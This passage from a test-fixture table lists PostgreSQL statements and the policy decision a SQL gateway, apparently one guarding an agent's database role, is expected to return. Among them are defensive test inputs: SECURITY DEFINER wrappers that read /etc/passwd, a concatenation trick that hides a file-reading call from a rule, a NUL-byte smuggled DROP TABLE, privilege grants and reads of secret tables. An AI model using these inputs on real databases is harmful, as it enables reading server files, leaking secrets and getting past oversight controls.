      e("LOCK TABLE customers", ALLOW, [s("utility", "customers")]),
      e("LOCK customers IN ACCESS EXCLUSIVE MODE", ALLOW, [s("utility", "customers")]),
      e("LOCK TABLE vault.keys", "protect-secrets", [s("utility", "vault.keys")]),
      e("VACUUM customers", ALLOW, [s("utility", "customers")]),
      e("VACUUM FULL ANALYZE orders", ALLOW, [s("utility", "orders")]),
      e("VACUUM", ALLOW, [s("utility")]),
      e("ANALYZE customers", ALLOW, [s("utility", "customers")]),
      e("ANALYZE", ALLOW, [s("utility")]),
      e("ANALYZE VERBOSE vault.keys", "protect-secrets", [s("utility", "vault.keys")]),
      e("CLUSTER orders", ALLOW, [s("utility", "orders")]),
      e("REINDEX TABLE orders", ALLOW, [s("utility", "orders")]),
      e("CHECKPOINT", ALLOW, [s("utility")]),
      e("LOAD 'x'", ALLOW, [s("utility")]),
      e("DISCARD ALL", ALLOW, [s("utility")]),
      e("DISCARD PLANS", ALLOW, [s("utility")]),
      e("LISTEN x", ALLOW, [s("utility")]),
      e("NOTIFY x, 'y'", ALLOW, [s("utility")]),
      e("UNLISTEN *", ALLOW, [s("utility")]),
      e("SHOW work_mem", ALLOW, [s("utility")]),
      e("SHOW ALL", ALLOW, [s("utility")]),
      e("SET CONSTRAINTS ALL DEFERRED", ALLOW, [s("utility")]),
      e("CALL proc()", ALLOW, [s("call", "", "proc")]),
      e("CALL public.do_stuff(1, 'x')", ALLOW, [s("call", "", "public.do_stuff")]),
    ],
  },
  {
    theme: "server configuration and extensions",
    covers: "ALTER SYSTEM, extensions, languages, foreign servers: schema-level changes",
    entries: [
      e("ALTER SYSTEM SET work_mem = '1GB'", "no-schema-changes", [s("ddl")]),
      e("ALTER SYSTEM RESET ALL", "no-schema-changes", [s("ddl")]),
      e("CREATE EXTENSION dblink", "no-schema-changes", [s("ddl")]),
      e("CREATE EXTENSION IF NOT EXISTS adminpack SCHEMA public", "no-schema-changes", [s("ddl")]),
      e("ALTER EXTENSION dblink UPDATE", "no-schema-changes", [s("ddl")]),
      e("CREATE LANGUAGE plperlu", "no-schema-changes", [s("ddl")]),
      e("CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw", "no-schema-changes", [s("ddl")]),
      e("IMPORT FOREIGN SCHEMA public FROM SERVER s INTO x", "no-schema-changes", [s("ddl")]),
    ],
  },
  {
    theme: "privileges",
    covers: "GRANT/REVOKE on objects, role membership, default privileges",
    entries: [
      e("GRANT SELECT ON customers TO bob", "no-grants", [s("grant", "customers")]),
      e("REVOKE SELECT ON customers FROM bob", "no-grants", [s("grant", "customers")]),
      e("GRANT admin TO bob", "no-grants", [s("grant")]),
      e("REVOKE admin FROM bob", "no-grants", [s("grant")]),
      e("GRANT pg_read_server_files TO agent", "no-grants", [s("grant")]),
      e("ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO bob", "no-grants", [s("grant")]),
      e("ALTER DEFAULT PRIVILEGES IN SCHEMA vault GRANT SELECT ON TABLES TO PUBLIC", "no-grants", [s("grant")]),
      e("GRANT ALL ON ALL TABLES IN SCHEMA vault TO bob", "no-grants", [s("grant")]),
      e("GRANT USAGE ON SCHEMA vault TO PUBLIC", "no-grants", [s("grant")]),
      e("GRANT EXECUTE ON FUNCTION pg_read_file(text) TO bob", "no-grants", [s("grant")], { note: "a function named, not called" }),
      e("GRANT SELECT ON vault.keys TO agent", "protect-secrets", [s("grant", "vault.keys")], { note: "rule 5 comes before rule 6" }),
      e("REVOKE ALL ON secrets FROM PUBLIC", "protect-secrets", [s("grant", "secrets")]),
    ],
  },
  {
    theme: "functions, procedures, rules, triggers",
    covers: "SECURITY DEFINER wrappers around denied functions (sql, BEGIN ATOMIC and plpgsql bodies), rules and triggers that act later",
    entries: [
      e("CREATE FUNCTION f() RETURNS text LANGUAGE sql SECURITY DEFINER AS $$ SELECT pg_read_file('/etc/passwd') $$", "no-schema-changes", [s("ddl", "", "pg_read_file")]),
      e("CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql SECURITY DEFINER AS $$ BEGIN PERFORM pg_read_file('/etc/passwd'); END $$", "no-schema-changes", [s("ddl", "", "pg_read_file")]),
      e("CREATE FUNCTION f() RETURNS text LANGUAGE plpgsql SECURITY DEFINER AS $$ BEGIN RETURN pg_read_file('/etc/passwd'); END $$", "no-schema-changes", [s("ddl", "", "pg_read_file")], {
        note: "the body is parsed as a DO block, which rejects RETURN <value>: the call is lost",
      }),
      e("CREATE FUNCTION f() RETURNS text LANGUAGE plpgsql AS $$ DECLARE x text; BEGIN x := pg_read_file('/etc/passwd'); RETURN x; END $$", "no-schema-changes", [s("ddl", "", "pg_read_file")], { note: "as above" }),
      e("CREATE FUNCTION g() RETURNS setof text LANGUAGE sql SECURITY DEFINER BEGIN ATOMIC SELECT pg_ls_dir('.'); END", "no-schema-changes", [s("ddl", "", "pg_ls_dir")]),
      e("CREATE OR REPLACE FUNCTION f(a int) RETURNS int LANGUAGE sql IMMUTABLE RETURN a + 1", "no-schema-changes", [s("ddl")]),
      e("CREATE PROCEDURE p() LANGUAGE plpgsql AS $$ BEGIN PERFORM lo_import('/etc/passwd'); END $$", "no-schema-changes", [s("ddl", "", "lo_import")]),
      e("CREATE OR REPLACE PROCEDURE p() LANGUAGE sql AS $$ DELETE FROM customers $$", "no-schema-changes", [s("ddl")], { note: "a body runs when called, not now" }),
      e("CREATE RULE r AS ON INSERT TO orders DO ALSO DELETE FROM customers", "no-schema-changes", [s("ddl delete", "orders customers")]),
      e("CREATE RULE r AS ON SELECT TO t DO INSTEAD SELECT * FROM secrets", "no-schema-changes", [s("ddl select", "t secrets")]),
      e("CREATE TRIGGER t AFTER INSERT ON orders FOR EACH ROW EXECUTE FUNCTION f()", "no-schema-changes", [s("ddl", "orders", "f")], { note: "the function a trigger will call counts as called" }),
      e("CREATE EVENT TRIGGER e ON ddl_command_start EXECUTE FUNCTION f()", "no-schema-changes", [s("ddl", "", "f")]),
      e("DROP FUNCTION f()", "no-schema-changes", [s("ddl")]),
    ],
  },
  {
    theme: "function bodies that run SQL text",
    covers: "a function whose body EXECUTEs SQL text, calls a function that runs SQL, or is in a language the gateway cannot read: what it will call is not listed, so defining it is `dynamic`; literal text is classified too",
    entries: [
      e("CREATE FUNCTION w() RETURNS void LANGUAGE plpgsql AS $$ BEGIN EXECUTE 'SELECT pg_read_file(''/etc/passwd'')'; END $$", "no-schema-changes", [s("ddl dynamic", "", "pg_read_file")]),
      e("CREATE FUNCTION w() RETURNS void LANGUAGE plpgsql AS $$ BEGIN EXECUTE 'SELECT pg_read' || '_file(''/etc/passwd'')'; END $$", "no-schema-changes", [s("ddl dynamic")], { note: "was `ddl` only: the call was hidden from a `functions` rule" }),
      e("CREATE FUNCTION w() RETURNS setof text LANGUAGE plpgsql AS $$ BEGIN RETURN QUERY EXECUTE 'SELECT pg_ls_dir(''.'')'; END $$", "no-schema-changes", [s("ddl dynamic", "", "pg_ls_dir")]),
      e("CREATE FUNCTION w() RETURNS void LANGUAGE plpgsql AS $$ DECLARE c refcursor; BEGIN OPEN c FOR EXECUTE format('SELECT %s', 'x'); END $$", "no-schema-changes", [s("ddl dynamic", "", "format")]),
      e("CREATE FUNCTION w() RETURNS void LANGUAGE plpgsql AS $$ DECLARE r record; BEGIN FOR r IN EXECUTE $q$SELECT lo_import('/etc/passwd')$q$ LOOP END LOOP; END $$", "no-schema-changes", [s("ddl dynamic", "", "lo_import")]),
      e("CREATE FUNCTION w() RETURNS void LANGUAGE plpgsql AS $$ DECLARE c CURSOR FOR SELECT 1; BEGIN OPEN c; END $$", "no-schema-changes", [s("ddl")], { note: "a static cursor runs no SQL text" }),
      e("CREATE FUNCTION w() RETURNS xml LANGUAGE sql AS $$ SELECT query_to_xml('SELECT pg_read' || '_file(''x'')', true, true, '') $$", "no-schema-changes", [s("ddl dynamic", "", "query_to_xml")]),
      e("CREATE FUNCTION w() RETURNS xml LANGUAGE sql RETURN query_to_xml('SELECT pg_read_file(''x'')', true, true, '')", "no-schema-changes", [s("ddl dynamic", "", "query_to_xml pg_read_file")]),
      e("CREATE FUNCTION w() RETURNS bigint LANGUAGE sql AS $$ SELECT nextval('s') $$", "no-schema-changes", [s("ddl", "", "nextval")], { note: "a sequence named by a literal is not dynamic" }),
      e("CREATE FUNCTION w() RETURNS int LANGUAGE plperl AS $$ return 1 $$", "no-schema-changes", [s("ddl dynamic")], { note: "a body the gateway cannot read" }),
      e("CREATE FUNCTION w() RETURNS int LANGUAGE c AS 'lib', 'sym'", "no-schema-changes", [s("ddl dynamic")]),
      e("CREATE FUNCTION w(int) RETURNS int LANGUAGE sql SUPPORT pg_read_file AS 'SELECT 1'", "no-schema-changes", [s("ddl", "", "pg_read_file")], { note: "a planner support function is called whenever w is planned" }),
      e("ALTER FUNCTION w(int) SUPPORT pg_read_file", "no-schema-changes", [s("ddl", "", "pg_read_file")]),
      e("CREATE PROCEDURE w() LANGUAGE plpgsql AS $$ BEGIN EXECUTE 'DELETE FROM customers'; END $$", "no-schema-changes", [s("ddl dynamic")], { note: "the body's own kinds are not the definition's" }),
      e("CREATE FUNCTION w() RETURNS int LANGUAGE sql AS $$ CREATE FUNCTION w2() RETURNS text LANGUAGE plpgsql AS $b$ BEGIN RETURN pg_read_file('x'); END $b$; SELECT 1 $$", "no-schema-changes", [s("ddl", "", "pg_read_file")], {
        note: "a function defined by a function's body: its PL/pgSQL body is read from its own text",
      }),
      e("DO $$ BEGIN CREATE FUNCTION w2() RETURNS text LANGUAGE plpgsql AS $b$ BEGIN RETURN pg_read_file('x'); END $b$; END $$", "no-schema-changes", [s("dynamic ddl", "", "pg_read_file")]),
      e("DO $$ BEGIN EXECUTE 'SELECT pg_read_file(''x'')'; END $$", "no-schema-changes", [s("dynamic select", "", "pg_read_file")]),
    ],
  },
  {
    theme: "built-in wrappers",
    covers: "built-in SQL functions whose body calls another function (the catalog survey of dynamic-functions.ts): a call of the wrapper is a call of what it wraps",
    entries: [
      e("SELECT pg_sleep_for('1 second')", ALLOW, [s("select", "", "pg_sleep_for pg_catalog.pg_sleep pg_catalog.clock_timestamp")]),
      e("SELECT pg_catalog.pg_sleep_until(now())", ALLOW, [s("select", "", "pg_catalog.pg_sleep_until pg_catalog.pg_sleep pg_catalog.clock_timestamp now")]),
      e("SELECT ('1 second'::interval).pg_sleep_for", ALLOW, [s("select", "", "pg_sleep_for pg_catalog.pg_sleep pg_catalog.clock_timestamp")], { note: "attribute notation" }),
      e("SELECT public.pg_sleep_for('1 second')", ALLOW, [s("select", "", "public.pg_sleep_for")], { note: "a function of the same name elsewhere is not the built-in" }),
      e("SELECT * FROM ts_debug('a')", ALLOW, [s("select", "", "ts_debug pg_catalog.ts_parse pg_catalog.ts_token_type pg_catalog.ts_lexize pg_catalog.get_current_ts_config")]),
    ],
  },
  {
    theme: "MERGE",
    covers: "MERGE's WHEN clauses are deletes/updates/inserts of the target; ON true is an unbounded delete",
    entries: [
      e("MERGE INTO customers c USING staging s ON c.id = s.id WHEN MATCHED THEN DELETE", "customers-delete", [s("merge delete", "customers staging", "id")]),
      e("MERGE INTO orders o USING customers c ON o.cid = c.id WHEN MATCHED THEN DELETE", ALLOW, [s("merge delete", "orders customers", "cid id")]),
      e("MERGE INTO customers c USING staging s ON c.id = s.id WHEN MATCHED THEN UPDATE SET a = s.a WHEN NOT MATCHED THEN INSERT VALUES (s.id)", ALLOW, [s("merge update insert", "customers staging", "a id")]),
      e("MERGE INTO secrets s USING staging t ON s.id = t.id WHEN MATCHED THEN DELETE", "protect-secrets", [s("merge delete", "secrets staging", "id")]),
      e("WITH src AS (SELECT * FROM vault.keys) MERGE INTO orders o USING src ON o.id = src.id WHEN MATCHED THEN UPDATE SET a = 1", "protect-secrets", [s("merge select update", "orders vault.keys", "id")]),
      e("MERGE INTO orders USING (SELECT 1) s ON true WHEN MATCHED THEN DELETE", "unbounded-delete", [s("merge delete select", "orders")], {
        note: "ON true matches every row: a DELETE of the whole table",
      }),
    ],
  },
  {
    theme: "UPDATE / DELETE and WHERE",
    covers: "WHERE clauses that filter nothing (true, 1=1, constant subqueries, parameters), bounded deletes, USING, same-action tables",
    entries: [
      e("UPDATE customers SET a = 1", "unbounded-delete", [s("update", "customers")]),
      e("UPDATE customers SET a = 1 WHERE true", "unbounded-delete", [s("update", "customers")]),
      e("UPDATE customers SET a = 1 WHERE 1=1", "unbounded-delete", [s("update", "customers")]),
      e("UPDATE customers SET a = 1 WHERE NOT false", "unbounded-delete", [s("update", "customers")]),
      e("DELETE FROM orders WHERE 'a' = 'a'", "unbounded-delete", [s("delete", "orders")]),
      e("DELETE FROM orders WHERE NULL IS NULL", "unbounded-delete", [s("delete", "orders")]),
      e("DELETE FROM orders WHERE (SELECT true)", "unbounded-delete", [s("delete select", "orders")], { note: "no column reference: every row or none" }),
      e("DELETE FROM orders WHERE EXISTS (SELECT 1)", "unbounded-delete", [s("delete select", "orders")], { note: "as above" }),
      e("DELETE FROM orders WHERE now() IS NOT NULL", "unbounded-delete", [s("delete", "orders", "now")], { note: "as above" }),
      e("DELETE FROM orders WHERE $1", "unbounded-delete", [s("delete", "orders")], { note: "a bare boolean parameter: every row or none" }),
      e("DELETE FROM customers WHERE id = $1", "customers-delete", [s("delete", "customers")]),
      e("DELETE FROM orders WHERE id = $1", ALLOW, [s("delete", "orders")]),
      e("UPDATE customers SET a = 1 WHERE id > 0", ALLOW, [s("update", "customers")]),
      e("DELETE FROM orders WHERE CURRENT OF c", ALLOW, [s("delete", "orders")]),
      e("DELETE FROM orders USING customers WHERE orders.cid = customers.id", ALLOW, [s("delete", "orders customers", "cid id")]),
      e("DELETE FROM customers USING orders WHERE orders.cid = customers.id", "customers-delete", [s("delete", "customers orders", "cid id")]),
      e("DELETE FROM orders WHERE id IN (SELECT id FROM customers)", ALLOW, [s("delete select", "orders customers")], { note: "SPEC §2: a DELETE from orders that reads customers is not a DELETE from customers" }),
      e("DELETE FROM customers WHERE id IN (SELECT id FROM orders)", "customers-delete", [s("delete select", "customers orders")]),
      e("DELETE FROM orders WHERE id IN (SELECT id FROM secrets)", "protect-secrets", [s("delete select", "orders secrets")]),
      e("UPDATE orders SET x = s.x FROM secrets s WHERE orders.id = s.id", "protect-secrets", [s("update", "orders secrets", "id x")]),
      e("DELETE FROM secrets", "unbounded-delete", [s("delete", "secrets")], { note: "rule 3 comes before rule 5" }),
      e("DELETE FROM vault.keys WHERE id = 1", "protect-secrets", [s("delete", "vault.keys")]),
      e("UPDATE ONLY customers SET a = 1 WHERE id = 1 RETURNING *", ALLOW, [s("update", "customers")]),
    ],
  },
  {
    theme: "TRUNCATE",
    covers: "TRUNCATE in its spellings",
    entries: [
      e("TRUNCATE customers", "no-schema-changes", [s("truncate", "customers")]),
      e("TRUNCATE TABLE ONLY orders RESTART IDENTITY CASCADE", "no-schema-changes", [s("truncate", "orders")]),
      e("TRUNCATE vault.keys", "no-schema-changes", [s("truncate", "vault.keys")]),
      e("TRUNCATE a, b", "no-schema-changes", [s("truncate", "a b")]),
    ],
  },
  {
    theme: "INSERT",
    covers: "INSERT ... VALUES / SELECT / ON CONFLICT: an upsert also updates",
    entries: [
      e("INSERT INTO customers (a) VALUES (1)", ALLOW, [s("insert select", "customers")]),
      e("INSERT INTO customers DEFAULT VALUES", ALLOW, [s("insert", "customers")]),
      e("INSERT INTO customers VALUES (1) RETURNING *", ALLOW, [s("insert select", "customers")]),
      e("INSERT INTO customers VALUES (1) ON CONFLICT DO NOTHING", ALLOW, [s("insert select", "customers")]),
      e("INSERT INTO customers VALUES (1) ON CONFLICT (id) DO UPDATE SET a = 2", ALLOW, [s("insert select update", "customers")], {
        note: "ON CONFLICT DO UPDATE updates customers: the statement carries `update` (a rule on updates of customers must see it)",
      }),
      e("INSERT INTO orders (id) SELECT id FROM vault.keys ON CONFLICT (id) DO UPDATE SET id = excluded.id", "protect-secrets", [s("insert select update", "orders vault.keys", "id")], { note: "as above" }),
      e("INSERT INTO orders SELECT * FROM secrets", "protect-secrets", [s("insert select", "orders secrets")]),
      e("INSERT INTO secrets VALUES (1)", "protect-secrets", [s("insert select", "secrets")]),
    ],
  },
  {
    theme: "read-only query shapes",
    covers: "window functions, joins, set operations, TABLE, sublinks: reads are judged by the tables they touch",
    entries: [
      e("SELECT row_number() OVER (PARTITION BY a) FROM orders", ALLOW, [s("select", "orders", "row_number")]),
      e("SELECT count(*) OVER w FROM customers WINDOW w AS (ORDER BY id)", ALLOW, [s("select", "customers", "count")]),
      e("SELECT sum(a) FILTER (WHERE b) OVER (ORDER BY c ROWS BETWEEN 1 PRECEDING AND CURRENT ROW) FROM orders", ALLOW, [s("select", "orders", "sum")]),
      e("SELECT rank() OVER (ORDER BY x), lag(x) OVER w FROM orders WINDOW w AS (ORDER BY x)", ALLOW, [s("select", "orders", "rank lag")]),
      e("TABLE secrets", "protect-secrets", [s("select", "secrets")]),
      e("TABLE vault.keys", "protect-secrets", [s("select", "vault.keys")]),
      e("SELECT * FROM customers c JOIN vault.keys k ON true", "protect-secrets", [s("select", "customers vault.keys")]),
      e("SELECT * FROM customers UNION SELECT * FROM secrets", "protect-secrets", [s("select", "customers secrets")]),
      e("SELECT * FROM customers INTERSECT TABLE secrets", "protect-secrets", [s("select", "customers secrets")]),
      e("SELECT 1 WHERE EXISTS (SELECT * FROM secrets)", "protect-secrets", [s("select", "secrets")]),
      e("VALUES ((SELECT 1 FROM secrets))", "protect-secrets", [s("select", "secrets")]),
      e("SELECT * FROM (SELECT * FROM (SELECT * FROM vault.k) a) b", "protect-secrets", [s("select", "vault.k")]),
      e("SELECT * FROM customers TABLESAMPLE SYSTEM (10)", ALLOW, [s("select", "customers", "system")], { note: "the sampling method is a handler function PostgreSQL calls" }),
      e("SELECT 1 FROM customers FOR UPDATE", ALLOW, [s("select", "customers")]),
      e("SELECT xmltable.* FROM secrets, XMLTABLE('/a' PASSING x COLUMNS a int)", "protect-secrets", [s("select", "secrets")]),
    ],
  },
  {
    theme: "transactions",
    covers: "transaction control, including SET TRANSACTION",
    entries: [
      e("BEGIN", ALLOW, [s("transaction")]),
      e("BEGIN ISOLATION LEVEL SERIALIZABLE", ALLOW, [s("transaction")]),
      e("START TRANSACTION READ ONLY", ALLOW, [s("transaction")]),
      e("COMMIT", ALLOW, [s("transaction")]),
      e("END", ALLOW, [s("transaction")]),
      e("ROLLBACK", ALLOW, [s("transaction")]),
      e("ABORT", ALLOW, [s("transaction")]),
      e("SAVEPOINT a", ALLOW, [s("transaction")]),
      e("RELEASE SAVEPOINT a", ALLOW, [s("transaction")]),
      e("ROLLBACK TO SAVEPOINT a", ALLOW, [s("transaction")]),
      e("PREPARE TRANSACTION 'x'", ALLOW, [s("transaction")]),
      e("COMMIT PREPARED 'x'", ALLOW, [s("transaction")]),
      e("SET TRANSACTION ISOLATION LEVEL SERIALIZABLE", ALLOW, [s("transaction")], {
        note: "PostgreSQL documents SET TRANSACTION as transaction control; it changes only the current transaction",
      }),
    ],
  },
  {
    theme: "SET / RESET / SHOW",
    covers: "session settings, including role switches (the database enforces membership)",
    entries: [
      e("SET work_mem = '64MB'", ALLOW, [s("set")]),
      e("SET LOCAL work_mem = '1MB'", ALLOW, [s("set")]),
      e("SET statement_timeout TO 0", ALLOW, [s("set")]),
      e("RESET ALL", ALLOW, [s("set")]),
      e("SET ROLE postgres", ALLOW, [s("set")]),
      e("RESET ROLE", ALLOW, [s("set")]),
      e("SET SESSION AUTHORIZATION postgres", ALLOW, [s("set")]),
      e("SET SESSION CHARACTERISTICS AS TRANSACTION READ ONLY", ALLOW, [s("set")]),
      e("UPDATE pg_settings SET setting = 'off' WHERE name = 'standard_conforming_strings'", "protected-setting", [s("update", "pg_settings")], {
        note: "a write to pg_settings is a set_config of each row it touches",
      }),
      e("WITH x AS (UPDATE pg_catalog.pg_settings SET setting = 'latin1' WHERE name = 'client_encoding' RETURNING 1) SELECT 1", "protected-setting", [s("select update", "pg_catalog.pg_settings")]),
      e("ALTER ROLE agent IN DATABASE app SET standard_conforming_strings = off", "protected-setting", [s("ddl")], {
        note: "a default for later sessions that would make them read SQL differently (or be refused)",
      }),
      e("ALTER DATABASE app SET client_encoding = 'LATIN1'", "protected-setting", [s("ddl")]),
      e("ALTER SYSTEM SET backslash_quote = on", "protected-setting", [s("ddl")]),
      e("ALTER ROLE agent SET work_mem = '64MB'", "no-schema-changes", [s("ddl")]),
    ],
  },
  {
    theme: "cursors",
    covers: "DECLARE carries its query's work; FETCH/MOVE/CLOSE do not",
    entries: [
      e("DECLARE c CURSOR FOR SELECT * FROM orders", ALLOW, [s("select", "orders")]),
      e("DECLARE c CURSOR FOR SELECT * FROM secrets", "protect-secrets", [s("select", "secrets")]),
      e("DECLARE c2 SCROLL CURSOR WITH HOLD FOR SELECT pg_read_file('x')", "no-server-files", [s("select", "", "pg_read_file")]),
      e("FETCH 10 FROM c", ALLOW, [s("utility")]),
      e("FETCH ALL IN c", ALLOW, [s("utility")]),
      e("MOVE NEXT IN c", ALLOW, [s("utility")]),
      e("CLOSE c", ALLOW, [s("utility")]),
      e("CLOSE ALL", ALLOW, [s("utility")]),
    ],
  },
  {
    theme: "DDL",
    covers: "CREATE/DROP/ALTER of tables, indexes, views, schemas, roles and other objects",
    entries: [
      e("CREATE TABLE t (a int)", "no-schema-changes", [s("ddl", "t")]),
      e("CREATE TEMP TABLE t (a int)", "no-schema-changes", [s("ddl", "t")]),
      e("CREATE UNLOGGED TABLE t (a int)", "no-schema-changes", [s("ddl", "t")]),
      e("CREATE TABLE t (LIKE secrets)", "no-schema-changes", [s("ddl", "t secrets")]),
      e("CREATE TABLE t () INHERITS (secrets)", "no-schema-changes", [s("ddl", "t secrets")]),
      e("DROP TABLE customers", "no-schema-changes", [s("ddl", "customers")]),
      e(`DROP TABLE "customers"`, "no-schema-changes", [s("ddl", "customers")]),
      e("DROP TABLE IF EXISTS a, b", "no-schema-changes", [s("ddl", "a b")]),
      e("DROP TABLE vault.keys, secrets", "no-schema-changes", [s("ddl", "vault.keys secrets")]),
      e("ALTER TABLE customers ADD COLUMN b int", "no-schema-changes", [s("ddl", "customers")]),
      e("ALTER TABLE orders RENAME TO secrets", "no-schema-changes", [s("ddl", "orders")]),
      e("ALTER TABLE customers DISABLE ROW LEVEL SECURITY", "no-schema-changes", [s("ddl", "customers")]),
      e("ALTER TABLE vault.keys OWNER TO bob", "no-schema-changes", [s("ddl", "vault.keys")]),
      e("CREATE INDEX i ON customers (a)", "no-schema-changes", [s("ddl", "customers")]),
      e("CREATE INDEX CONCURRENTLY i ON orders (a)", "no-schema-changes", [s("ddl", "orders")]),
      e("DROP INDEX i", "no-schema-changes", [s("ddl", "i")]),
      e("DROP INDEX CONCURRENTLY IF EXISTS i", "no-schema-changes", [s("ddl", "i")]),
      e("ALTER INDEX i RENAME TO j", "no-schema-changes", [s("ddl", "i")]),
      e("DROP VIEW v", "no-schema-changes", [s("ddl", "v")]),
      e("ALTER VIEW v RENAME TO w", "no-schema-changes", [s("ddl", "v")]),
      e("DROP MATERIALIZED VIEW mv", "no-schema-changes", [s("ddl", "mv")]),
      e("CREATE SCHEMA s", "no-schema-changes", [s("ddl")]),
      e("CREATE SCHEMA IF NOT EXISTS s AUTHORIZATION bob", "no-schema-changes", [s("ddl")]),
      e("CREATE SCHEMA vault2 CREATE TABLE t (a int)", "no-schema-changes", [s("ddl", "t")]),
      e("DROP SCHEMA vault CASCADE", "no-schema-changes", [s("ddl")]),
      e("ALTER SCHEMA vault RENAME TO v2", "no-schema-changes", [s("ddl")]),
      e("CREATE ROLE r", "no-schema-changes", [s("ddl")]),
      e("CREATE USER eve", "no-schema-changes", [s("ddl")]),
      e("ALTER ROLE bob SUPERUSER", "no-schema-changes", [s("ddl")]),
      e("ALTER USER bob WITH PASSWORD 'x'", "no-schema-changes", [s("ddl")]),
      e("ALTER ROLE bob RENAME TO eve", "no-schema-changes", [s("ddl")]),
      e("DROP ROLE bob", "no-schema-changes", [s("ddl")]),
      e("CREATE SEQUENCE s", "no-schema-changes", [s("ddl", "s")]),
      e("SELECT nextval('s')", ALLOW, [s("select", "s", "nextval")], { note: "a sequence named by a literal is a relation the call reads (dynamic-functions.ts)" }),
      e("CREATE DATABASE d", "no-schema-changes", [s("ddl")]),
      e("DROP DATABASE d", "no-schema-changes", [s("ddl")]),
      e("CREATE TYPE e AS ENUM ('a')", "no-schema-changes", [s("ddl")]),
      e("CREATE DOMAIN d AS int", "no-schema-changes", [s("ddl")]),
      e("COMMENT ON TABLE customers IS 'x'", "no-schema-changes", [s("ddl")]),
      e("CREATE POLICY p ON customers USING (true)", "no-schema-changes", [s("ddl", "customers")]),
      e("CREATE PUBLICATION p FOR ALL TABLES", "no-schema-changes", [s("ddl")]),
      e("REASSIGN OWNED BY a TO b", "no-schema-changes", [s("ddl")]),
      e("DROP OWNED BY a", "no-schema-changes", [s("ddl")]),
    ],
  },
  {
    theme: "garbage and truncated SQL",
    covers: "text that does not parse is unknown and denied by default-deny-unknown (fail closed)",
    entries: [
      e("selec 1", "default-deny-unknown", UNKNOWN),
      e("select * from", "default-deny-unknown", UNKNOWN),
      e("SELECT * FROM customers WHERE", "default-deny-unknown", UNKNOWN),
      e("DELETE FROM", "default-deny-unknown", UNKNOWN),
      e("DELETE customers", "default-deny-unknown", UNKNOWN),
      e("DROP TABLE", "default-deny-unknown", UNKNOWN),
      e("SELECT 'unterminated", "default-deny-unknown", UNKNOWN),
      e("SELECT $$ unterminated", "default-deny-unknown", UNKNOWN),
      e("SELECT /* unterminated comment", "default-deny-unknown", UNKNOWN),
      e("SELECT (1", "default-deny-unknown", UNKNOWN),
      e("select 1; drop tabel t", "default-deny-unknown", UNKNOWN),
      e("\\x", "default-deny-unknown", UNKNOWN),
      e("xyzzy", "default-deny-unknown", UNKNOWN),
      e("SELECT 1\u0000; DROP TABLE t", "default-deny-unknown", UNKNOWN, {
        label: "SELECT 1<NUL>; DROP TABLE t",
        note: "the parser stops at NUL and never sees the DROP; text it did not read must not be judged harmless (not reachable on the Postgres wire, which cannot carry NUL in a query)",
      }),
    ],
  },
  {
    theme: "very long queries",
    covers: "size and depth: long lists, many statements, huge comments and strings, deep nesting; a classifier that throws is not fail-closed",
    entries: [
      e(inList, ALLOW, [s("select", "orders")], { label: "SELECT ... IN (1000 literals)" }),
      e(manyStatements, "no-schema-changes", [...Array.from({ length: 100 }, () => s("select")), s("ddl", "t")], { label: "100 × SELECT 1; then DROP TABLE t" }),
      e(bigComment, "unbounded-delete", [s("delete", "customers")], { label: "/* 200 kB comment */ DELETE FROM customers" }),
      e(longString, ALLOW, [s("select")], { label: "SELECT '<60 kB string full of quotes and DROP TABLE>'" }),
      e(wideSelect, ALLOW, [s("select", "orders")], { label: "SELECT c0, ..., c499 FROM orders" }),
      e(longUnion, "protect-secrets", [s("select", "orders vault.keys")], { label: "200 × SELECT FROM orders UNION ALL ... vault.keys" }),
      e(manyCtes, "unbounded-delete", [s("select delete", "customers")], { label: "WITH 100 CTEs, then a DELETE CTE" }),
      e(nested(100, "SELECT * FROM secrets"), "protect-secrets", [s("select", "secrets")], { label: "secrets under 100 nested subqueries" }),
      e(deepCalls, "no-server-files", [s("select", "", "lower pg_read_file")], { label: "lower(lower(...300...)), pg_read_file('x')" }),
      e(nested(700, "SELECT * FROM secrets"), "default-deny-unknown", UNKNOWN, {
        label: "secrets under 700 nested subqueries",
        alt: { statements: [s("select", "secrets")], decision: "protect-secrets" },
        note: "beyond the walker's depth: unknown (or a full classification), never an exception (PostgreSQL itself accepts this depth)",
      }),
      e(longSum, "default-deny-unknown", UNKNOWN, {
        label: "SELECT 1 + 1 + ... (3000 terms)",
        alt: { statements: [s("select")], decision: "allow" },
        note: "as above: classifySql must not throw on ~12 kB of SQL",
      }),
    ],
  },
  {
    theme: "SQL that runs SQL",
    covers: "functions that execute SQL text or read relations named by a value (the catalog survey of dynamic-functions.ts): dynamic, and what their literal arguments run counts",
    entries: [
      e("SELECT ts_stat('SELECT v FROM docs')", "no-schema-changes", [s("select dynamic", "docs", "ts_stat")]),
      e("SELECT * FROM ts_stat('SELECT body FROM secrets', 'ab')", "no-schema-changes", [s("select dynamic", "secrets", "ts_stat")]),
      e("SELECT ts_rewrite('a & b'::tsquery, 'SELECT t, s FROM aliases')", "no-schema-changes", [s("select dynamic", "aliases", "ts_rewrite")]),
      e("SELECT ts_rewrite('a'::tsquery, 'a'::tsquery, 'b'::tsquery)", ALLOW, [s("select", "", "ts_rewrite")], { note: "the three-tsquery overload runs no SQL" }),
      e("SELECT query_to_xml('select * from vault.keys', true, true, '')", "no-schema-changes", [s("select dynamic", "vault.keys", "query_to_xml")]),
      e("SELECT query_to_xml(query => 'DELETE FROM customers', nulls => true, tableforest => false, targetns => '')", "no-schema-changes", [s("select dynamic delete", "customers", "query_to_xml")], { note: "named arguments" }),
      e("SELECT pg_catalog.query_to_xmlschema('select 1', true, true, '')", "no-schema-changes", [s("select dynamic", "", "pg_catalog.query_to_xmlschema")]),
      e("SELECT query_to_xml_and_xmlschema('select ' || 'secret from secrets', true, true, '')", "no-schema-changes", [s("select dynamic", "", "query_to_xml_and_xmlschema")], { note: "computed text: only `dynamic` can be said" }),
      e("SELECT xpath('//text()', query_to_xml('select * from secrets', true, true, ''))", "no-schema-changes", [s("select dynamic", "secrets", "xpath query_to_xml")]),
      e("WITH secrets AS (SELECT 1) SELECT query_to_xml('select * from secrets', true, true, '')", "no-schema-changes", [s("select dynamic", "secrets", "query_to_xml")], {
        note: "the text runs on its own, where this statement's CTE does not exist: `secrets` is the real table",
      }),
      e("SELECT cursor_to_xml('c', 10, true, true, '')", "no-schema-changes", [s("select dynamic", "", "cursor_to_xml")]),
